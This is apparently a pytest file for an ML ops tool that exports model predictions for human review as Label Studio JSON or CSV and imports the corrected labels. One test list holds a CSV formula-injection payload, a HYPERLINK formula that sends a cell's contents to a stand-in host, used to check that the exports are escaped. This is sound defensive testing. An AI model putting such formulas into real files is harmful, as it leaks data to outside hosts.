"""Review-queue export, read back by the label import as an annotator would return it."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

from slmops.tasks.core.config import parse_params
from slmops.tasks.data.dataset import LabeledPaths, escape_formula
from slmops.tasks.feedback.review import export_review
from slmops.tasks.feedback.store import FeedbackStore, NewPrediction
from slmops.tasks.labels.sources import NO_ANNOTATIONS_ONLY_PREDICTIONS, read_votes
from slmops.tasks.pipeline.prepare import import_labels
from slmops.tasks.task_types import LABEL_FORMATS, task_type

SEQUENCE = task_type("sequence_classification")


@pytest.fixture
def params(tmp_path):
    params = parse_params({}, tmp_path / "params.yaml", root=tmp_path)
    with FeedbackStore.from_params(params) as store:
        ids = store.log_predictions(
            [
                NewPrediction(
                    text, label, conf, [{"label": label, "score": conf}], "slmops-intent", "2"
                )
                for text, label, conf in (
                    ("card never came", "card_arrival", 0.4),
                    ("what rate for euros", "exchange_rate", 0.9),
                    ("top up did not work", "card_arrival", 0.2),
                )
            ]
        )
        store.add_feedback(
            ids[1], "exchange_rate", ["exchange_rate"], task=SEQUENCE
        )  # reviewed: not exported
    return params


def test_label_studio_export_carries_answers_as_predictions_not_votes(params, tmp_path):
    out = tmp_path / "review" / "tasks.json"
    assert export_review(params, out) == 2
    tasks = json.loads(out.read_text())
    assert [t["data"]["text"] for t in tasks] == ["top up did not work", "card never came"]
    pre = tasks[0]["predictions"][0]
    assert pre["model_version"] == "slmops-intent/2" and pre["score"] == pytest.approx(0.2)
    assert pre["result"][0]["value"] == {"choices": ["card_arrival"]}
    assert len(tasks[0]["data"]["prediction_id"]) == 32

    # An annotator corrects the first task in Label Studio; the second stays untouched.
    tasks[0]["annotations"] = [
        {
            "completed_by": 1,
            "result": [{**pre["result"][0], "value": {"choices": ["top_up_failed"]}}],
        }
    ]
    tasks[1]["annotations"] = []
    returned = tmp_path / "export.json"
    returned.write_text(json.dumps(tasks))
    table = read_votes(returned, params.label_import, LABEL_FORMATS)
    assert table.votes[["text", "label"]].values.tolist() == [
        ["top up did not work", "top_up_failed"]
    ]
    assert table.rejected["reason"].tolist() == [NO_ANNOTATIONS_ONLY_PREDICTIONS]


def test_csv_export_leaves_the_label_for_the_reviewer(params, tmp_path):
    out = tmp_path / "review.csv"
    assert export_review(params, out, fmt="csv", limit=1) == 1
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert frame.columns.tolist() == [
        "prediction_id",
        "text",
        "predicted_label",
        "confidence",
        "model_version",
        "label",
        "formula_escape",
    ]
    assert frame.loc[0, "text"] == "top up did not work" and frame.loc[0, "label"] == ""
    frame.loc[0, "label"] = "top_up_failed"
    frame.to_csv(out, index=False)
    votes = read_votes(out, params.label_import, LABEL_FORMATS).votes
    assert votes[["text", "label"]].values.tolist() == [["top up did not work", "top_up_failed"]]
    with pytest.raises(ValueError, match="expected 'label-studio' or 'csv'"):
        export_review(params, out, fmt="xml")  # type: ignore[arg-type]


# Texts a client could send to /predict that a spreadsheet would run, and genuine ones
# that merely look like it: the export must not run them, the import must not change them.
RISKY = [
    ('=HYPERLINK("https://evil.example/?d="&A1,"click")', "card_arrival"),
    ("-5 on my balance?", "exchange_rate"),
    ("+44 7700 900123 is my number, card not here", "card_arrival"),
    ("@bank my card was stolen", "lost_or_stolen_card"),
    ("'=this one starts with a quote", "exchange_rate"),
]


def test_csv_export_escapes_formulas_and_the_import_gives_the_texts_back(tiny_params):
    with FeedbackStore.from_params(tiny_params) as store:
        store.log_predictions(
            [NewPrediction(t, "card_arrival", 0.1, [], "slmops-intent", "2") for t, _ in RISKY]
        )
    out = tiny_params.path("review.csv")
    assert export_review(tiny_params, out, fmt="csv") == len(RISKY)

    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    # Nothing a spreadsheet would run as a formula, in any cell.
    assert not [v for v in frame.to_numpy().ravel() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'-5 on my balance?" in frame["text"].tolist()
    assert set(frame["formula_escape"]) == {"quote"}

    # The reviewer fills the label column and saves the file; it comes back.
    frame["label"] = frame["text"].map({escape_formula(t): label for t, label in RISKY})
    frame.to_csv(out, index=False)
    summary = import_labels(out, tiny_params, version=False)
    assert summary.added == len(RISKY), summary.problems
    labeled = pd.read_csv(LabeledPaths(tiny_params).labeled, dtype=str, keep_default_na=False)
    imported = labeled[labeled["source"] == "import"]
    assert sorted(zip(imported["text"], imported["label"], strict=True)) == sorted(RISKY)


def test_token_predictions_become_span_regions_of_a_labels_control():
    from slmops.tasks.feedback.review import control_of, label_studio_task

    assert control_of(parse_params({"task": "token_classification"}, Path("p.yaml"))) == "labels"
    assert control_of(parse_params({}, Path("p.yaml"))) == "choices"
    text = "Ann flew to Paris"
    task = label_studio_task(
        {"text": text, "prediction_id": "p1"},
        [("ner/1", 0.7, '[[0,3,"person"],[12,17,"location"]]')],
        "text",
        "label",
        "labels",
    )
    (prediction,) = task["predictions"]
    assert [r["value"] for r in prediction["result"]] == [
        {"start": 0, "end": 3, "text": "Ann", "labels": ["person"]},
        {"start": 12, "end": 17, "text": "Paris", "labels": ["location"]},
    ]
    assert {(r["type"], r["from_name"], r["to_name"]) for r in prediction["result"]} == {
        ("labels", "label", "text")
    }
    # No entity, or a label that is not span JSON: a prediction with no region.
    empty = label_studio_task({"text": text}, [("ner/1", None, "[]")], "text", "label", "labels")
    assert empty["predictions"][0]["result"] == []
    odd = label_studio_task({"text": text}, [("ner/1", None, "PER")], "text", "label", "labels")
    assert odd["predictions"][0]["result"] == []
